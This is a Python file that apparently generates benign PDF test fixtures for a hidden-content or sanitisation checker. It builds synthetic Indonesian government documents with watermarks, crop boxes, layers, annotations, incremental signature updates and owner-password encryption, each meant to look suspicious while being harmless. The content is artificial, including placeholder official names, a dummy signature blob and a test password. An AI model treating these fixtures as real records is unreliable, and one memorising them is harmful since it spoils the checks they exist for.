    paper.put(paper.its.office.unit, 60, 470, size=14, color=white)
    return paper.turn().prose(3).done()


@clean("pdf", "text-under-image", ".pdf")
def pdf_clean_stamp_on_a_signature(its: Making) -> bytes:
    """A round stamp with a transparent ground lies across the signature block; the words stay readable."""
    paper = Paper(its).prose(3).sign()
    stamp = Image.new("RGBA", (240, 240), (0, 0, 0, 0))
    draw = ImageDraw.Draw(stamp)
    draw.ellipse((6, 6, 234, 234), outline=(60, 40, 160, 255), width=6)
    draw.text((60, 105), "TIRTAMULYA", fill=(60, 40, 160, 255), font=font(18))
    paper.picture(stamp, Box(x=300, y=paper.y + 10, w=90, h=90), mask="auto")
    return paper.done()


@clean("pdf", "invisible-text", ".pdf")
def pdf_clean_white_on_dark(its: Making) -> bytes:
    """White headings on dark bars."""
    paper = Paper(its)
    for title in ("A. PENDAHULUAN", "B. HASIL", "C. PENUTUP"):
        paper.fill(Box(x=50, y=paper.y - 7, w=495, h=22), Color(0.05, 0.05, 0.05), grow=0)
        paper.say(title, color=white, face="Helvetica-Bold")
        paper.prose(1)
    return paper.sign().done()


@clean("pdf", "invisible-text", ".pdf")
def pdf_clean_watermark(its: Making) -> bytes:
    """A pale SALINAN across the page, below the text."""
    paper = Paper(its)
    paper.c.saveState()
    paper.c.translate(180, 250)
    paper.c.rotate(50)
    paper.c.setFillColor(Color(0.92, 0.92, 0.92))
    paper.c.setFont("Helvetica-Bold", 90)
    paper.c.drawString(0, 0, "SALINAN")
    paper.c.restoreState()
    return paper.prose(4).sign().done()


@clean("pdf", "invisible-text", ".pdf")
def pdf_clean_small_print(its: Making) -> bytes:
    """Footnotes of five points, superscripts of four and pale grey page numbers."""
    paper = Paper(its).prose(3)
    paper.put("1", 300, paper.y + 30, size=4)
    paper.put("1 Sumber: Sistem Informasi Pemerintahan Daerah, data diolah, kondisi 31 Desember.", 56, 60, size=5)
    paper.put("Halaman 1 dari 1", 480, 40, size=7, color=Color(0.72, 0.72, 0.72))
    return paper.sign().done()


@clean("pdf", "invisible-text", ".pdf")
def pdf_clean_outlined_letters(its: Making) -> bytes:
    """Letters as outlines only, and letters filled and outlined."""
    paper = Paper(its)
    paper.say("INFORMASI PUBLIK", face="Helvetica-Bold", size=26, mode=1)
    paper.c.setStrokeColor(_NAVY)
    paper.say("TAHUN ANGGARAN 2024", face="Helvetica-Bold", size=20, color=white, mode=2)
    return paper.prose(3).done()


@clean("pdf", "invisible-text", ".pdf")
def pdf_clean_spaces_and_dots(its: Making) -> bytes:
    """A table of contents with dot leaders, and empty signature lines of blanks and underscores."""
    paper = Paper(its)
    for number, title in enumerate(("PENDAHULUAN", "GAMBARAN UMUM", "CAPAIAN KINERJA", "PENUTUP"), start=1):
        paper.say(f"BAB {number}  {title} " + "." * (90 - len(title)) + f" {number * 7}", size=10)
    paper.put(" " * 60, 56, paper.y)
    paper.put("(" + "_" * 30 + ")" + " " * 20 + "(" + " " * 30 + ")", 56, paper.y - 30)
    paper.y -= 50
    return paper.prose(2).done()


@clean("pdf", "glyphs", ".pdf")
def pdf_clean_drawn_font(its: Making) -> bytes:
    """A font of drawn glyphs, as old scanners and TeX make them: each letter is there to be seen."""
    text = "NOTULEN RAPAT KOORDINASI PPID"

    def drawn(letter_: str) -> bytes:
        tile = Image.new("1", (14, 22))
        ImageDraw.Draw(tile).text((0, 1), letter_, fill=1, font=font(18))
        dots = [f"{x * 50} {(17 - y) * 50} 50 50 re" for y in range(22) for x in range(14) if tile.getpixel((x, y))]
        return ("700 0 0 -250 700 900 d1\n" + "\n".join(dots) + "\nf\n").encode()

    def change(pdf: Pdf) -> None:
        face = pdf.make_indirect(_lettering(pdf, text, drawn))
        add(pdf, b"BT /Titik 20 Tf 56 140 Td %b Tj ET\n" % _coded(text), Font={"/Titik": face})

    return changed(letter(its), change)


@clean("pdf", "off-page-text", ".pdf")
def pdf_clean_wide_table(its: Making) -> bytes:
    """A line of a spreadsheet runs over the sheet's edge, as prints to PDF do."""
    paper = Paper(its).prose(2)
    for _ in range(3):
        paper.put(" ".join(its.prose(2)), 56, paper.y, size=9)
        paper.y -= 16
    return paper.sign().done()


@clean("pdf", "off-page-text", ".pdf")
def pdf_clean_turned(its: Making) -> bytes:
    """A wide table turned sideways for display, as in a bound report."""
    paper = Paper(its, size=landscape(A4))
    _table(paper, _figures(its))

    def turn(pdf: Pdf) -> None:
        pdf.pages[0].rotate(90, relative=False)

    return changed(paper.done(), turn)


@clean("pdf", "cropped-away", ".pdf")
def pdf_clean_cropped(its: Making) -> bytes:
    """Cut to its crop box; outside there are only printer's marks."""
    paper = Paper(its).prose(3).sign()
    for x, y in ((20, 20), (575, 20), (20, 822), (575, 822)):
        paper.c.line(x - 10, y, x + 10, y)
        paper.c.line(x, y - 10, x, y + 10)

    def crop(pdf: Pdf) -> None:
        pdf.pages[0].cropbox = Array([30, 30, 565, 812])

    return changed(paper.done(), crop)


@clean("pdf", "ocr-differs", ".pdf")
def pdf_clean_scan_with_ocr(its: Making) -> bytes:
    """A scan whose text layer says what the picture shows."""

    def draw(paper: Paper) -> None:
        paper.say("BERITA ACARA SERAH TERIMA", size=14)
        paper.prose(5)
        paper.sign()

    return _twice(its, draw)


@clean("pdf", "box-over-scan", ".pdf")
def pdf_clean_scan(its: Making) -> bytes:
    """A scan without a text layer; worth a remark, not a refusal."""
    image = scanned(Paper(its).prose(5).sign().done(), noise=173)
    shell = Paper(its, head=False)
    shell.picture(reread(image), Box(x=0, y=0, w=shell.width, h=shell.height))
    return shell.done()


@clean("pdf", "layer-off", ".pdf")
def pdf_clean_layers_on(its: Making) -> bytes:
    """A map with layers, all of them switched on."""

    def change(pdf: Pdf) -> None:
        for place, name in enumerate(("Jalan", "Sungai", "Batas desa")):
            group = layer(pdf, name, on=True)
            add(
                pdf,
                b"/OC /L%d BDC\n" % place + shown(f"Legenda: {name}", 56, 150 - 15 * place, 9) + b"EMC\n",
                Properties={f"/L{place}": group},
            )

    return changed(letter(its, 2), change)


@clean("pdf", "annotation", ".pdf")
def pdf_clean_links(its: Making) -> bytes:
    """Links to the agency's own pages and inside the document."""

    def change(pdf: Pdf) -> None:
        add(pdf, shown("Selengkapnya: https://ppid.tirtamulyakab.go.id/", 56, 140, 10))
        action = Dictionary(S=Name.URI, URI="https://ppid.tirtamulyakab.go.id/")
        annotate(pdf, Dictionary(Subtype=Name.Link, Rect=[56, 136, 320, 152], A=action, Border=[0, 0, 0], F=4))
        annotate(
            pdf,
            Dictionary(
                Subtype=Name.Link, Rect=[56, 700, 320, 715], Dest=Array([pdf.pages[0].obj, Name.Fit]), Border=[0, 0, 0]
            ),
        )

    return changed(letter(its, 2), change)


@clean("pdf", "redaction-not-applied", ".pdf")
def pdf_clean_highlight_annotation(its: Making) -> bytes:
    """A highlight without a remark, over text that can be read."""

    def change(pdf: Pdf) -> None:
        drawn = look(pdf, 300, 14, b"/G gs 1 1 0 rg 0 0 300 14 re f")
        drawn.Resources.ExtGState = Dictionary(G=Dictionary(BM=Name.Multiply))
        quad = [56, 694, 356, 694, 56, 680, 356, 680]
        annotate(
            pdf,
            Dictionary(
                Subtype=Name.Highlight,
                Rect=[56, 680, 356, 694],
                QuadPoints=quad,
                C=[1, 1, 0],
                F=4,
                AP=Dictionary(N=drawn),
            ),
        )

    return changed(letter(its), change)


@clean("pdf", "hidden-field", ".pdf")
def pdf_clean_empty_form(its: Making) -> bytes:
    """The form for a request, to be filled in: all its fields are empty."""
    paper = Paper(its, "Formulir Permohonan Informasi")
    labels = ("Nama pemohon", "Nomor KTP", "Alamat", "Telepon", "Surel", "Informasi yang dibutuhkan", "Tujuan")
    for place, label in enumerate(labels):
        paper.put(f"{label} :", 56, 600 - 30 * place)

    def change(pdf: Pdf) -> None:
        for place, label in enumerate(labels):
            field(pdf, label.lower().replace(" ", "_"), "", y=596 - 30 * place)
        pdf.pages[0].obj.Annots[-1].MaxLen = 200

    return changed(paper.done(), change)


@clean("pdf", "attachment", ".pdf")
def pdf_clean_attached_table(its: Making) -> bytes:
    """The figures of the report are attached as a table; there is nobody in it."""
    data = "uraian;pagu;realisasi\n" + "".join(f"{row[1]};{row[2]};{row[3]}\n" for row in _figures(its)[1:])

    def change(pdf: Pdf) -> None:
        pdf.attachments["realisasi.csv"] = AttachedFileSpec(
            pdf, data.encode(), filename="realisasi.csv", mime_type="text/csv"
        )

    return changed(letter(its), change)


@clean("pdf", "earlier-revision", ".pdf")
def pdf_clean_signed(its: Making) -> bytes:
    """A certified electronic signature was appended as an update, as BSrE does; no word was changed."""
    content = resaved(letter(its), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with Pdf.open(io.BytesIO(content)) as pdf:
        root, page, size = pdf.Root.objgen[0], pdf.pages[0].obj.objgen[0], int(pdf.trailer.Size)
        catalog = pdf.Root.unparse(resolved=True)
        sheet = pdf.pages[0].obj.unparse(resolved=True)
    signature = (
        b"<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/Name(Balai Sertifikasi Elektronik)/M(D:20240305093000+07'00')/ByteRange[0 1000 9000 500]/Contents<%b>>>"
        % (b"30820A" + b"00" * 1200)
    )
    widget = b"<</Type/Annot/Subtype/Widget/FT/Sig/T(Signature1)/V %d 0 R/F 132/Rect[0 0 0 0]/P %d 0 R>>" % (size, page)
    return revised(
        content,
        {
            root: catalog[:-2] + b"/AcroForm<</Fields[%d 0 R]/SigFlags 3>>>>" % (size + 1),
            page: sheet[:-2] + b"/Annots[%d 0 R]>>" % (size + 1),
            size: signature,
            size + 1: widget,
        },
    )


@clean("pdf", "earlier-revision", ".pdf")
def pdf_clean_page_added_later(its: Making) -> bytes:
    """An update appended a line to the page; every word of the version before is still there."""
    content = resaved(letter(its), object_stream_mode=pikepdf.ObjectStreamMode.disable)
    with Pdf.open(io.BytesIO(content)) as pdf:
        number = pdf.pages[0].obj.Contents.objgen[0]
        before = pdf.pages[0].obj.Contents.read_bytes()
    more = b"BT /F1 11 Tf 1 0 0 1 56 120 Tm (Diunggah kembali dengan nomor halaman.) Tj ET\n"
    return revised(content, {number: stream_body(before + b"\n" + more)})


@clean("pdf", "earlier-revision", ".pdf")
def pdf_clean_linearised(its: Making) -> bytes:
    """Prepared for the web: two end marks, but one version."""
    return resaved(Paper(its).prose(4).turn().prose(4).done(), linearize=True)


@clean("pdf", "metadata", ".pdf")
def pdf_clean_metadata(its: Making) -> bytes:
    """Full properties and XMP: the unit, an official's name and NIP, subject and keywords of the register."""
    who = its.official()

    def change(pdf: Pdf) -> None:
        pdf.docinfo["/Author"] = who.name
        pdf.docinfo["/Keywords"] = f"laporan, kinerja, {its.office.short}, NIP {who.nip}"
        with pdf.open_metadata(set_pikepdf_as_editor=False) as data:
            data["dc:title"] = "Laporan Kinerja Instansi Pemerintah"
            data["dc:creator"] = [who.name]
            data["pdf:Producer"] = "Microsoft: Print To PDF"

    return changed(letter(its), change)


@clean("pdf", "outline", ".pdf")
def pdf_clean_bookmarks(its: Making) -> bytes:
    """Bookmarks that repeat the headings of the pages."""
    paper = Paper(its)
    for title in ("BAB I PENDAHULUAN", "BAB II HASIL", "BAB III PENUTUP"):
        paper.say(title)
        paper.prose(1)

    def change(pdf: Pdf) -> None:
        with pdf.open_outline() as outline:
            outline.root.extend(
                OutlineItem(title, 0) for title in ("BAB I PENDAHULUAN", "BAB II HASIL", "BAB III PENUTUP")
            )

    return changed(paper.done(), change)


@clean("pdf", "tag-tree", ".pdf")
def pdf_clean_tagged(its: Making) -> bytes:
    """A tagged document: the logo has an alternative text, a hyphenated word an ActualText that is the word."""

    def change(pdf: Pdf) -> None:
        add(
            pdf,
            b"/Figure <</MCID 0>> BDC .2 .4 .7 rg 56 90 40 40 re f EMC\n/Span <</ActualText (pelayanan)>> BDC\n"
            + shown("pelayanan", 110, 100)
            + b"EMC\n",
        )
        root = pdf.make_indirect(Dictionary(Type=Name.StructTreeRoot))
        figure = Dictionary(Type=Name.StructElem, S=Name.Figure, P=root, Pg=pdf.pages[0].obj, K=0, Alt="Lambang daerah")
        root.K = Array([pdf.make_indirect(figure)])
        pdf.Root.StructTreeRoot = root
        pdf.Root.MarkInfo = Dictionary(Marked=True)
        pdf.Root.Lang = "id-ID"

    return changed(letter(its), change)


@clean("pdf", "encrypted", ".pdf")
def pdf_clean_owner_password(its: Making) -> bytes:
    """Printing and copying are restricted, but no password is needed to read it."""
    how = pikepdf.Encryption(owner="pemilik-2024", user="", R=3, aes=False, metadata=False)
    return resaved(letter(its), encryption=how, deterministic_id=False, static_id=True)


@clean("pdf", "image-place", ".pdf")
def pdf_clean_photo(its: Making) -> bytes:
    """A photo of an activity on the page, without properties."""
    paper = Paper(its).prose(2)
    paper.picture(reread(photo(its)), Box(x=56, y=paper.y - 170, w=240, h=160))
    return paper.done()


@clean("pdf", "orphan-content", ".pdf")
def pdf_clean_compressed(its: Making) -> bytes:
    """Ten pages with object streams and page labels: an ordinary long report."""
    paper = Paper(its).prose(5)
    for _ in range(9):
        paper.turn().prose(6)

    def change(pdf: Pdf) -> None:
        pdf.Root.PageLabels = Dictionary(Nums=Array([0, Dictionary(S=Name.D)]))
        pdf.Root.PageMode = Name.UseOutlines

    return changed(paper.done(), change, object_stream_mode=pikepdf.ObjectStreamMode.generate)


@clean("pdf", "script", ".pdf")
def pdf_clean_open_action(its: Making) -> bytes:
    """Opens at full width: an action, but a place to go to, no script."""

    def change(pdf: Pdf) -> None:
        pdf.Root.OpenAction = Array([pdf.pages[0].obj, Name.FitH, 842])
        pdf.Root.ViewerPreferences = Dictionary(DisplayDocTitle=True)

    return changed(letter(its), change)
